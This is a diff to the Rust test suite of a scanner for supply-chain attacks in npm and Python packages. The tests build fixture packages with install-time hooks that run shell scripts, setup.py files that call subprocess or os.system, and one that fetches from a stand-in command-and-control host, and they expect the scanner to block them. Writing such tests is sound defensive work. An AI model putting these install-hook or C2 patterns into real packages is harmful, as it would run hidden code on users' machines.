@@ -202,10 +202,29 @@ fn nobody_runs_a_script_of_a_pipeline_by_installing_what_was_published() {
         verdict(&[("package/package.json", manifest), ("package/index.js", index), (path.as_str(), script)])
     };
     assert_eq!(verdict_of(MANIFEST, ".github/actions/compare/setup.sh", setup), "pass");
+    for place in ["etc/ci/macports-ci.sh", ".circleci/setup.sh", ".azure_upload.sh"] {
+        assert_eq!(verdict_of(MANIFEST, place, setup), "pass", "{place}");
+    }
     assert_eq!(verdict_of(MANIFEST, "tools/setup.sh", setup), "review");
     let installs = r#"{"name":"inert","version":"1.0.0","scripts":{"postinstall":"bash .github/setup.sh"}}"#;
     assert_eq!(verdict_of(installs, ".github/setup.sh", setup), "block");
-    for place in [".github/x.js", "test/x.js", "docs/examples/x.test.js"] {
+    let installs = installs.replace(".github/", "ci/");
+    assert_eq!(verdict_of(&installs, "ci/setup.sh", setup), "block");
+    for call in ["subprocess.run(['bash', 'ci/setup.sh'])", "os.system('sh ./ci/setup.sh')"] {
+        let setup_py = format!(
+            "import os, subprocess\nfrom setuptools import setup\n{call}\nsetup(name='inert', version='1.0.0')\n"
+        );
+        let files = [
+            ("inert-1.0.0/setup.py", setup_py.as_str()),
+            ("inert-1.0.0/PKG-INFO", "Metadata-Version: 2.1\nName: inert\nVersion: 1.0.0\n"),
+            ("inert-1.0.0/ci/setup.sh", setup),
+        ];
+        let folder = Folder::new();
+        let path = folder.put("inert-1.0.0.tar.gz", gzip_of(&tar_of(files)));
+        let run = records_of(scan([path.into_os_string()]));
+        assert_eq!(run.artifact("inert-1.0.0.tar.gz")["verdict"], "block", "{call}");
+    }
+    for place in [".github/x.js", "ci/x.js", "test/x.js", "docs/examples/x.test.js"] {
         assert_eq!(verdict_of(MANIFEST, place, THIEF), "block", "{place}");
     }
 }
@@ -246,4 +265,30 @@ fn names_of_modules_in_another_file_hide_nothing() {
         ("package/plugins/right.js", "module.exports = s => s.trimEnd();\n"),
     ];
     assert_eq!(verdict(&files), "pass");
+}
+
+#[test]
+fn what_a_distribution_is_described_with_is_prose() {
+    // In a package of hardly any code less is needed.
+    let rest = "def one(a):\n    return a + 1\n".repeat(1000);
+    let verdict = |call: &str, description: &str| {
+        let setup = format!(
+            "from setuptools import setup\n\n{call}\nsetup_kwargs = {{\n    'name': 'inert',\n    'version': '1.0.0',\n    'long_description': {description},\n}}\n\nsetup(**setup_kwargs)\n"
+        );
+        let metadata = "Metadata-Version: 2.1\nName: inert\nVersion: 1.0.0\n";
+        let files = [
+            ("inert-1.0.0/setup.py", setup.as_str()),
+            ("inert-1.0.0/PKG-INFO", metadata),
+            ("inert-1.0.0/inert.py", rest.as_str()),
+        ];
+        let folder = Folder::new();
+        let path = folder.put("inert-1.0.0.tar.gz", gzip_of(&tar_of(files)));
+        let run = records_of(scan([path.into_os_string()]));
+        run.artifact("inert-1.0.0.tar.gz")["verdict"].as_str().unwrap().to_owned()
+    };
+    let example = "'Use it::\\n\\n    r = requests.get(url)\\n'";
+    assert_eq!(verdict("", example), "pass");
+    assert_eq!(verdict("import requests\nrequests.get('https://c2.invalid/x')\n", example), "block");
+    // What is done with it is not followed by the signatures.
+    assert_eq!(verdict("", &format!("{example}.upper()")), "review");
 }
